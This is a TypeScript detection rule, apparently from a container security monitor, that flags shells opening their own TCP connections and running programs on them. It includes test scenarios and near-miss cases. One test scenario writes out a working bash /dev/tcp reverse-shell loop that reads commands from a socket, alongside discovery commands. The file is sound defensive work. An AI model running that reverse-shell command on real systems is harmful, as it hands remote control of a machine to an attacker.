import type { DetectionCase } from '../../model/detection-case.js';
import type { Level } from '../../model/finding.js';
import type { Process } from '../../model/process.js';
import { type Contact, contactsOf, isOpenAt } from '../contact.js';
import type { Draft } from '../draft.js';
import { descendants, imageAt, programName, seconds } from '../lineage.js';
import { isDiscovery, isFilter } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { type ShellKind, shellKind } from '../shell.js';
import { apart, command, contactEvidence, destination, processEvidence, related, span } from '../wording.js';

const PROCESSES_READ = 200;

export const reverseShellOwnSocket = defineRule({
  id: 'reverse-shell-own-socket',
  title: 'Shell opened a connection itself and ran programs on it',
  description:
    'A shell has no need of a network: when it opens a connection itself (`/dev/tcp`, `ztcp`) and programs other than text filters run below ' +
    'it while that connection is open, somebody at the other end names them. Port checks and small HTTP clients open such connections too, ' +
    'but run nothing on them.',
  level: 'high',
  stage: 'shell',
  attack: ['T1059.004', 'T1095'],
  needs: ['connections'],
  options: {
    windowSeconds: { value: 60, description: 'Longest time from the connection to a program that it is made to answer for.' },
    programs: {
      value: 2,
      description: 'Different programs that must run; one is enough when it looks around and the destination is outside.',
    },
  },
  falsePositives: ['A start script that keeps a descriptor to its database open while it starts other programs.'],
  *run({ view, option, suspects }) {
    const window = seconds(option('windowSeconds'));
    for (const process of suspects.shellsWithSockets()) {
      for (const contact of contactsOf(view, process)) {
        const kind = ownerKind(process, contact);
        if (kind === undefined || kind === 'interactive') continue;
        const ran = programsOn(view, contact, window);
        const level = levelOf(contact, kind, ran, option('programs'));
        if (level === undefined) continue;
        yield draft(contact, ran, level);
        break;
      }
    }
  },
  hits: [
    scenario(
      'a loop reads commands from the socket',
      `
      container web
      0       node server.js
      1200      bash -c "exec 5<>/dev/tcp/host/4444;cat <&5|while read line;do $line 2>&5 >&5;done"
      1200.1      > tcp 203.0.113.9:4444
      1200.2      cat
      1200.2      fork
      1201          fork
      1201            => id
    `,
    ),
    scenario(
      'the same inside the cluster, with two programs',
      `
      container web
      0       node server.js
      1200      bash -c "…"
      1200.1      > tcp 10.0.0.9:4444
      1201        id
      1203        ps aux
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'a port check',
      `
      container prober
      0     bash check.sh
      5       timeout 2 bash -c "</dev/tcp/pg/5432"
      5         => bash -c "</dev/tcp/pg/5432"
      5.1       fork
      5.11        > tcp 203.0.113.20:5432
    `,
    ),
    scenario(
      'a command line checks a port outside, then fetches a page',
      `
      container job
      0     bash job.sh
      5       bash -c "echo > /dev/tcp/host/443 && curl https://host"
      5.1       > tcp 203.0.113.20:443
      5.2       curl https://host
    `,
    ),
    scenario(
      'a health request over a descriptor',
      `
      container web
      0     node server.js
      400     bash -c "exec 3<>/dev/tcp/10.0.0.4/8080;grep -q UP <&3"
      400.1     > tcp 10.0.0.4:8080
      400.2     grep -q UP
    `,
    ),
    scenario(
      'a start script waits for its database, then starts the server',
      `
      container web
      0     bash wait-for-it.sh db:5432
      0.5     > tcp 10.0.0.20:5432 until 0.6
      1       python3 migrate.py
      5       => node server.js
    `,
    ),
    scenario(
      'a person types a port check and goes on working',
      `
      container web
      0     node server.js
      400   bash -i {entered}
      410     > tcp 203.0.113.20:443
      412     ls
      413     id
    `,
    ),
  ],
});

/** How the shell that opened the connection takes its commands; `undefined` when no shell did. */
function ownerKind(process: Process, contact: Contact): ShellKind | undefined {
  const owner = imageAt(process, contact.atUs);
  return owner === undefined ? undefined : shellKind(owner);
}

/** What ran in the shell's pid or below it while the connection was open, text filters and further shells left out. */
function programsOn(view: DetectionCase, contact: Contact, window: number): readonly Process[] {
  const { process, atUs, connection } = contact;
  const isOnIt = (startedAtUs: number | undefined): boolean =>
    startedAtUs !== undefined && startedAtUs >= atUs && startedAtUs - atUs <= window && isOpenAt(connection, startedAtUs);
  return [process, ...descendants(view, process, PROCESSES_READ)].filter((one) => {
    const name = programName(one);
    const startedAtUs = one.imageStartedAtUs ?? one.startedAtUs;
    return one.knownFrom === 'exec' && isOnIt(startedAtUs) && name !== '' && !isFilter(name) && shellKind(one) === undefined;
  });
}

function levelOf(contact: Contact, kind: ShellKind, ran: readonly Process[], programs: number): Level | undefined {
  const names = new Set(ran.map(programName));
  if (names.size === 0) return undefined;
  const isEnough = names.size >= programs;
  if (kind === 'script') {
    if (!contact.isExternal) return undefined;
    return isEnough && [...names].some(isDiscovery) ? 'high' : 'medium';
  }
  return isEnough || (contact.isExternal && [...names].some(isDiscovery)) ? 'high' : 'medium';
}

function draft(contact: Contact, ran: readonly Process[], level: Level): Draft {
  const { process, connection } = contact;
  const where = destination(connection);
  const owner = imageAt(process, contact.atUs) ?? process;
  const [first] = ran;
  const delay = (first?.imageStartedAtUs ?? contact.atUs) - contact.atUs;
  const names = [...new Set(ran.map(programName))];
  return {
    level,
    title: `${command(owner)} runs programs on its own connection to ${where}`,
    why: `${command(owner)} (pid ${process.pid}) opened a connection to ${where} itself, and while it was open ran ${names.slice(0, 5).join(', ')}, the first ${apart(delay)} later.`,
    process,
    ...span(contact.atUs, first?.imageStartedAtUs),
    connections: [connection],
    related: [
      related(process, 'shell'),
      ...ran.slice(0, 8).map((one) => related(one, isDiscovery(programName(one)) ? 'discovery' : 'child')),
    ],
    evidence: [...processEvidence(process), ...contactEvidence(contact), ...ran.slice(0, 8).flatMap((one) => processEvidence(one))],
    members: [process.id],
  };
}
